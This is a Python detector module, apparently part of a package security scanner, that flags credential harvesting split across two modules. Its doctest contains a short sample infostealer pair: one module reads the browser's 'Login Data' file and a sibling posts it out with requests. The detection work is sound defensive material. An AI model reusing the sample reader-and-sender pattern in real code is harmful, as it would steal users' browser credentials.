"""Credential harvesting split over two modules of a package (AITech 8.2).

The family (an infostealer split in two): one module "discovers" something in the user's
browser profiles, keychain or wallet folders and returns what it read, as a "discovery
bundle"; another module imports it and uploads, to a "sync" or "backup" service. Each
module alone is half the harvest the one-file check looks for. A module that reads such a
store and is imported by a module of the package that sends data out is the whole of it.

>>> reader = ("from pathlib import Path\\n\\ndef discover():\\n"
...           "    return (Path.home() / 'Login Data').read_bytes()\\n")
>>> sender = "import requests\\nfrom discovery import discover\\nrequests.post(U, data=discover())"
>>> files = {"scripts/discovery.py": reader, "scripts/sync.py": sender}
>>> [(f.file, f.line, f.severity) for f in split_harvest_findings(files)]
[('scripts/discovery.py', 4, 'critical')]
>>> shown = "from discovery import discover\\nprint(discover())\\n"
>>> split_harvest_findings({**files, "scripts/sync.py": shown})
[]
"""

from __future__ import annotations

import re
from collections.abc import Mapping

from .family_detectors import sends_out, strong_store_read
from .findings import ThreatFinding, line_finding
from .structure import JAVASCRIPT, PYTHON, classify
from .textutil import is_test_file

RULE_ID = "credential-harvest"
_IMPORT = re.compile(
    r"^\s*(?:from\s+\.?([\w.]+)\s+import\b|import\s+([\w.]+(?:\s*,\s*[\w.]+)*))", re.M
)
_JS_IMPORT = re.compile(
    r"\brequire\s*\(\s*[\"'`](\.{1,2}/[^\"'`]+)[\"'`]\s*\)"
    r"|\bfrom\s+[\"'](\.{1,2}/[^\"']+)[\"']|\bimport\s*\(\s*[\"'](\.{1,2}/[^\"']+)[\"']"
)
"""A JavaScript module's import of a sibling by relative path (``require('./lib/discover')``)."""
_JS_SUFFIXES = (".js", ".mjs", ".cjs", ".ts", ".mts", ".cts")


def split_harvest_findings(files: Mapping[str, str]) -> list[ThreatFinding]:
    """A finding per module that reads a browser, keychain or wallet store and is imported
    by a sibling module that sends data out (the module that sends nothing itself)."""
    modules = {
        path: text
        for path, text in files.items()
        if classify(path, text) in (PYTHON, JAVASCRIPT) and not is_test_file(path)
    }
    if len(modules) < 2:
        return []
    readers: dict[str, tuple[int, str]] = {}
    for path, text in modules.items():
        read = strong_store_read(path, text)
        if read is not None and not sends_out(text):
            readers[path] = read
    findings = []
    for path, text in modules.items() if readers else ():
        if not sends_out(text):
            continue
        for reader in _imported(path, text, readers):
            line, what = readers.pop(reader)
            findings.append(
                line_finding(
                    reader,
                    modules[reader].splitlines(),
                    line,
                    "8.2",
                    "critical",
                    f"credential harvesting: reads {what} and {path} sends data out",
                    RULE_ID,
                )
            )
    return findings


def _imported(path: str, text: str, candidates: Mapping[str, object]) -> list[str]:
    """The modules of ``candidates`` that ``text`` (the module at ``path``) imports: by
    their name, found in the importer's folder first, else anywhere in the package."""
    names = set()
    if path.endswith(_JS_SUFFIXES):
        for groups in _JS_IMPORT.findall(text):
            name = next(g for g in groups if g).rsplit("/", 1)[-1]
            names.add(next((name[: -len(x)] for x in _JS_SUFFIXES if name.endswith(x)), name))
    for single, several in _IMPORT.findall(text) if not path.endswith(_JS_SUFFIXES) else ():
        for name in [single] if single else several.split(","):
            names.add(name.strip().rsplit(".", 1)[-1])
    folder = path.rsplit("/", 1)[0] if "/" in path else ""
    found = []
    for candidate in candidates:
        file_name = candidate.rsplit("/", 1)[-1]
        stem = file_name.rsplit(".", 1)[0]
        suffix = file_name[len(stem) :]
        here = (candidate.rsplit("/", 1)[0] if "/" in candidate else "") == folder
        alone = sum(c.endswith(f"/{stem}{suffix}") for c in candidates) == 1
        if stem in names and (here or alone):
            found.append(candidate)
    return found
